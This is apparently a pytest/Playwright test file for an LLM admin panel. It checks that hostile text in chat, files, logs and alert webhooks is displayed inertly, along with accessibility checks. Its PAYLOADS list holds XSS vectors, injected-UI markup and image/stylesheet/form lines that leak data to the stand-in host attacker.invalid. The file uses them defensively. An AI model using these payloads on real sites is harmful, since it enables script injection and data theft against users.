"""What untrusted text may do in the panel: be read. And that everybody can read it: axe finds nothing."""

import json
from collections.abc import Iterator
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.panel_kit import LOOKS, Open, Panel, Served, served

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<a href=javascript:window.hit=1>x</a>",
    "[x](javascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "![x](https://attacker.invalid/leak.png?secret)",
    "![x][r]\n\n[r]: https://attacker.invalid/leak.png",
    "<img src=https://attacker.invalid/leak.png>",
    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "<style>@import url(https://attacker.invalid/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<form action=https://attacker.invalid/><button autofocus>Approve and run</button></form>",
    "<math><mtext></math><img src=x onerror=window.hit=1>",
    "```html\n<script>window.hit=1</script>\n```",
    "```<img src=x onerror=window.hit=1>\ncode\n```",
    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "\"'><img src=x onerror=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1}",
    '<section class="plan"><button data-approve="simple">Approve and run</button></section>',
]
HOOK = "a token of Alertmanager"
CORPUS = "\n\n".join(PAYLOADS)
NAMES = ["<img src=x onerror=window.hit=1>.txt", '"><script>window.hit=1<script>.md', "[x](javascript:window.hit=1)"]
ANSWER = "## Heading\n\ntext with `code` and a [link](https://example.org)\n\n```sh\nls -l # all\n```\n"


def script(roots: Path) -> list[dict[str, Any]]:
    """What the model says: two plans of reads, hostile prose, an error, and else something harmless."""
    listing = [{"intent": "list_content", "params": {"root": str(roots)}}]
    reading = [{"intent": "read_log", "params": {"name": "app"}}]
    return [
        {"match": "list everything", "schema": True, "reply": {"kind": "plan", "steps": listing}},
        {"match": "what does the log", "schema": True, "reply": {"kind": "plan", "steps": reading}},
        {"match": "", "schema": True, "reply": {"kind": "answer"}},
        {"match": "corpus", "reply": CORPUS, "chunks": 200, "delay_s": 0.001},
        {"match": "down", "error": 503},
        {"match": "", "reply": ANSWER},
    ]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """One server whose model, files and logs are hostile."""
    folder = tmp_path_factory.mktemp("safety")
    log = folder / "app.log"
    log.write_text("\n".join(line for payload in PAYLOADS for line in payload.splitlines()) + "\n")
    settings = {"LLMCORE_SYSTEM__LOGS": json.dumps({"app": str(log)}), "LLMCORE_SERVER__WEBHOOK_TOKEN": HOOK}
    with served(folder, script(folder / "files"), settings) as running:
        for name in NAMES:
            (running.roots / name.replace("/", "_")).write_text("x")
        yield running


@pytest.fixture
def panel(open_panel: Open, server: Served) -> Panel:
    """A tab that is logged in."""
    return open_panel(server.url).enter()


def harmless(panel: Panel) -> None:
    """Nothing ran, nothing was built of the text, and (checked by the fixture) nothing was fetched."""
    assert panel.page.evaluate("() => window.hit") is None
    assert panel.page.locator("#app").locator("script, iframe, img, link, style, meta, form[action]").count() == 0
    assert panel.page.locator(".markdown button:not(.quiet)").count() == 0
    addresses = panel.page.evaluate("() => [...document.querySelectorAll('#app a[href]')].map((a) => a.protocol)")
    assert set(addresses) <= {"http:", "https:", "mailto:"}


def test_hostile_text_of_the_person_and_the_model_is_text(panel: Panel) -> None:
    """Streamed, shown, and shown again from the history; a card drawn by the model is no card."""
    turn = panel.ended(panel.ask(f"corpus of philosophy {CORPUS}"))
    expect(turn.locator(".said p")).to_contain_text("<img src=x onerror=window.hit=1>")
    expect(turn.locator(".markdown").first).to_contain_text("<svg onload=window.hit=1>")
    expect(turn.locator(".plan")).to_have_count(0)
    harmless(panel)
    panel.page.reload()
    panel.ready()
    expect(panel.page.locator(".markdown").first).to_contain_text("<svg onload=window.hit=1>")
    harmless(panel)


def test_hostile_file_names_and_log_lines_are_text(panel: Panel, server: Served) -> None:
    """In tables, fields and texts."""
    turn = panel.ended(panel.ask(f"list everything there is in {server.roots}"))
    expect(turn).to_contain_text(NAMES[0])
    harmless(panel)
    turn = panel.ended(panel.ask("what does the log app say?"))
    expect(turn).to_contain_text("<svg onload=window.hit=1>")
    harmless(panel)


def test_hostile_params_are_shown_whole_on_the_card(panel: Panel, server: Served) -> None:
    """As text, with hidden characters written out."""
    folder = server.roots / "<img src=x onerror=window.hit=1>\u202egnp"
    turn = panel.ended(panel.ask(f'create the folder "{folder}"'), "waiting")
    expect(turn.locator(".plan .step")).to_contain_text("<img src=x onerror=window.hit=1>⟨U+202E⟩gnp")
    harmless(panel)


@pytest.mark.parametrize("look", LOOKS.values(), ids=LOOKS)
def test_axe_finds_nothing(open_panel: Open, server: Served, look: dict[str, object]) -> None:
    """At the login, empty, with an answer, a table, a plan, an error, its editor, a dialog, and a phone's drawers."""
    panel = open_panel(server.url, reduced_motion="reduce", **look)
    panel.page.goto(server.url + "/")
    expect(panel.page.get_by_label("User name")).to_be_visible()
    assert panel.axe() == []
    panel.log_in().ready()
    expect(panel.page.locator(".empty")).to_be_visible()
    assert panel.axe() == []
    panel.ended(panel.ask("which processes eat the memory?"))
    panel.ended(panel.ask("something about philosophy"))
    panel.ended(panel.ask("the system of philosophy is down"), "error")
    assert panel.axe() == []
    file = server.roots / "motd.txt"
    file.write_text("old")
    card = panel.ended(panel.ask(f'write "new" to {file}'), "waiting").locator(".plan")
    card.get_by_role("button", name="Edit").click()
    assert panel.axe() == []
    card.get_by_role("button", name="Back").click()
    card.get_by_role("checkbox").check()
    assert panel.axe() == []
    panel.page.get_by_role("button", name="What can be done").click()
    expect(panel.page.get_by_role("dialog")).to_be_visible()
    assert panel.axe() == []
    panel.page.keyboard.press("Escape")
    card.get_by_role("button", name="Reject").click()
    card.get_by_role("button", name="Reject the plan").click()
    expect(card.locator(".chip.status")).to_have_text("Rejected")
    if look is LOOKS["phone"]:
        drawers(panel)


def drawers(panel: Panel) -> None:
    """Both side panels of a phone, and nothing wider than it."""
    page = panel.page
    for name in ("Conversations", "Overview"):
        page.get_by_role("button", name=name).click()
        expect(page.get_by_role("button", name="Close the side panel")).to_be_visible()
        assert panel.axe() == []
        page.mouse.click(355 if name == "Conversations" else 5, 400)
        expect(page.get_by_role("button", name="Close the side panel")).to_have_count(0)
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


def test_targets_are_large_enough_for_fingers(open_panel: Open, server: Served) -> None:
    """Every button and field of a phone is at least 40 pixels high."""
    panel = open_panel(server.url, **LOOKS["phone"]).log_in().ready()
    file = server.roots / "fingers.txt"
    file.write_text("old")
    panel.ended(panel.ask("which processes eat the memory?"))
    panel.ended(panel.ask(f"delete the file {file}"), "waiting")
    assert panel.small() == []


def test_the_log_is_no_live_region_and_the_voice_is(panel: Panel) -> None:
    """A screen reader hears the end of a reply, not every token."""
    log = panel.page.get_by_role("log")
    expect(log).to_have_attribute("aria-live", "off")
    panel.ended(panel.ask("something about philosophy"))
    expect(panel.page.get_by_role("status").filter(has_text="Reply finished.")).to_have_count(1)


def raise_alert(server: Served, name: str, summary: str) -> None:
    """Send what Alertmanager sends."""
    alert = {
        "status": "firing",
        "labels": {"alertname": name, "severity": "critical", "instance": PAYLOADS[1]},
        "annotations": {"summary": summary},
        "startsAt": "2026-01-01T00:00:00Z",
    }
    told = {"version": "4", "status": "firing", "receiver": "llmcore", "groupKey": name, "alerts": [alert]}
    connection = HTTPConnection(urlsplit(server.url).netloc, timeout=10)
    headers = {"Authorization": f"Bearer {HOOK}", "Content-Type": "application/json"}
    connection.request("POST", "/hooks/alertmanager", json.dumps(told), headers)
    assert connection.getresponse().status == 202
    connection.close()


def test_an_alert_becomes_a_card_and_its_suggestion_a_plan(panel: Panel, server: Served) -> None:
    """Real ones, by the webhook: shown, read out, told in a corner; accepted, the plan runs; axe finds nothing."""
    raise_alert(server, "DiskSpaceLow", PAYLOADS[1])
    overview = panel.page.get_by_role("complementary", name="Overview")
    card = overview.locator(".card.suggestion", has_text="Look at the disks first")
    expect(overview.locator(".card.alert", has_text="DiskSpaceLow")).to_contain_text(PAYLOADS[1])
    expect(card).to_contain_text(PAYLOADS[1])
    expect(panel.page.locator(".toast")).to_contain_text("DiskSpaceLow")
    assert panel.axe() == []
    harmless(panel)
    card.get_by_role("button", name="Yes, make the plan").click()
    expect(panel.page.locator(".turn table")).to_contain_text("/")
    expect(card).to_have_count(0)
    expect(panel.page.locator(".conversations li.shown")).to_contain_text("Alerts")
    assert panel.axe() == []


def test_a_suggestion_is_dismissed(panel: Panel, server: Served) -> None:
    """It is gone, also after a reload."""
    raise_alert(server, "MemoryLow", "not much left")
    overview = panel.page.get_by_role("complementary", name="Overview")
    card = overview.locator(".card.suggestion", has_text="Look at what uses the memory")
    card.get_by_role("button", name="Dismiss").click()
    expect(card).to_have_count(0)
    panel.page.reload()
    panel.ready()
    expect(overview.locator(".card.alert", has_text="MemoryLow")).to_be_visible()
    expect(card).to_have_count(0)
